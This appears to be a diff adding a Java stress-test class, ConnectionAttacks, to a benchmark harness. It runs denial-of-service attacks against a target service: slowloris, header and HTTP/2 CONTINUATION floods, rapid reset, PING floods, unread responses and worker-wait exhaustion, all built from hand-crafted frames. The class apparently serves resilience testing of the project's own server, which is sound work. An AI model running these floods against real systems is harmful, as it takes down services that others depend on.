@@ -1,0 +1,184 @@
+package io.kairos.bench.attack;
+
+import com.linecorp.armeria.client.WebClient;
+import com.linecorp.armeria.common.HttpData;
+import com.linecorp.armeria.common.HttpRequest;
+import com.linecorp.armeria.common.HttpRequestWriter;
+import com.linecorp.armeria.common.HttpResponse;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.Socket;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+
+/** Attacks by connections, heads of requests, frames of HTTP/2, waits, and answers left unread. */
+final class ConnectionAttacks {
+  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+  private static final int SETTINGS = 4;
+  private static final int PING = 6;
+  private static final int HEADERS = 1;
+  private static final int CONTINUATION = 9;
+
+  private ConnectionAttacks() {}
+
+  /** 2,500 connections that say nothing, or begin TLS and stop. */
+  static void idle(AttackTarget target) {
+    byte[] hello = {0x16, 3, 1, 2, 0};
+    Attackers.together(
+        target,
+        2_500,
+        () -> {
+          try (Socket socket = target.connect()) {
+            socket.getOutputStream().write(hello);
+            target.pass(Duration.ofSeconds(60));
+          }
+        });
+  }
+
+  /** 500 connections that send a byte of a head each second. */
+  static void slowHeads(AttackTarget target) {
+    Attackers.together(
+        target,
+        500,
+        () -> {
+          try (Socket socket = target.connect()) {
+            AttackTarget.send(socket, "GET /readyz HTTP/1.1\r\nhost: ");
+            while (!target.isOver()) {
+              AttackTarget.send(socket, "a");
+              target.pass(Duration.ofSeconds(1));
+            }
+          }
+        });
+  }
+
+  /** 64 connections that send headers without end, half of them by HTTP/2 CONTINUATION frames. */
+  static void headerFlood(AttackTarget target) {
+    byte[] header = ("x-" + "a".repeat(1_000) + ": b\r\n").getBytes(StandardCharsets.US_ASCII);
+    Attackers.together(
+        target,
+        32,
+        () -> {
+          try (Socket socket = target.connect()) {
+            AttackTarget.send(socket, "GET /readyz HTTP/1.1\r\n");
+            while (!target.isOver()) {
+              socket.getOutputStream().write(header);
+            }
+          }
+        });
+  }
+
+  /** CONTINUATION frames without end. */
+  static void continuations(AttackTarget target) {
+    Attackers.together(
+        target,
+        32,
+        () -> {
+          try (Socket socket = http2(target)) {
+            OutputStream out = socket.getOutputStream();
+            out.write(frame(HEADERS, 0, 1, new byte[] {(byte) 0x82}));
+            byte[] more = frame(CONTINUATION, 0, 1, literal("x-a", "b".repeat(100)));
+            while (!target.isOver()) {
+              out.write(more);
+            }
+          }
+        });
+  }
+
+  /** Requests that are reset as soon as they are sent. */
+  static void rapidReset(AttackTarget target) {
+    Attackers.together(
+        target,
+        8,
+        () -> {
+          WebClient client = target.http2();
+          while (!target.isOver()) {
+            HttpRequestWriter request =
+                HttpRequest.streaming(target.call("TaskService/ScheduleBatch"));
+            HttpResponse answer = client.execute(request);
+            request.write(HttpData.wrap(new byte[100]));
+            answer.abort();
+            request.abort();
+            if (answer.isComplete()) {
+              Thread.onSpinWait();
+            }
+          }
+        });
+  }
+
+  /** PING frames whose answers are never read. */
+  static void pings(AttackTarget target) {
+    byte[] ping = frame(PING, 0, 0, new byte[8]);
+    ByteBuffer many = ByteBuffer.allocate(ping.length * 1_000);
+    while (many.hasRemaining()) {
+      many.put(ping);
+    }
+    Attackers.together(
+        target,
+        16,
+        () -> {
+          try (Socket socket = http2(target)) {
+            while (!target.isOver()) {
+              socket.getOutputStream().write(many.array());
+            }
+          }
+        });
+  }
+
+  /** 64 connections that ask for the metrics again and again and read no answer. */
+  static void unread(AttackTarget target) {
+    String ask = target.head("GET /metrics");
+    Attackers.together(
+        target,
+        64,
+        () -> {
+          try (Socket socket = target.connect()) {
+            while (!target.isOver()) {
+              AttackTarget.send(socket, ask.repeat(100));
+            }
+          }
+        });
+  }
+
+  /** As many waits of workers as go, with 500 handlers each. */
+  static void waits(AttackTarget target) {
+    StringBuilder message = new StringBuilder("\n\u0006attack");
+    for (int i = 0; i < 500; i++) {
+      message.append("\u0012\u0040").append("%064d".formatted(i));
+    }
+    message.append("\u0018\u0001");
+    byte[] wait = message.toString().getBytes(StandardCharsets.US_ASCII);
+    byte[] whole = new byte[5 + wait.length];
+    ByteBuffer.wrap(whole).put((byte) 0).putInt(wait.length).put(wait);
+    BodyAttacks.flood(target, 40_000, "WorkerService/NextWork", whole);
+  }
+
+  private static Socket http2(AttackTarget target) throws IOException {
+    Socket socket = target.connect();
+    AttackTarget.send(socket, PREFACE);
+    socket.getOutputStream().write(frame(SETTINGS, 0, 0, new byte[0]));
+    return socket;
+  }
+
+  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
+    return ByteBuffer.allocate(9 + payload.length)
+        .put((byte) (payload.length >>> 16))
+        .putShort((short) payload.length)
+        .put((byte) type)
+        .put((byte) flags)
+        .putInt(stream)
+        .put(payload)
+        .array();
+  }
+
+  /** A header field of HPACK that is neither compressed nor kept. */
+  private static byte[] literal(String name, String value) {
+    return ByteBuffer.allocate(3 + name.length() + value.length())
+        .put((byte) 0)
+        .put((byte) name.length())
+        .put(name.getBytes(StandardCharsets.US_ASCII))
+        .put((byte) value.length())
+        .put(value.getBytes(StandardCharsets.US_ASCII))
+        .array();
+  }
+}
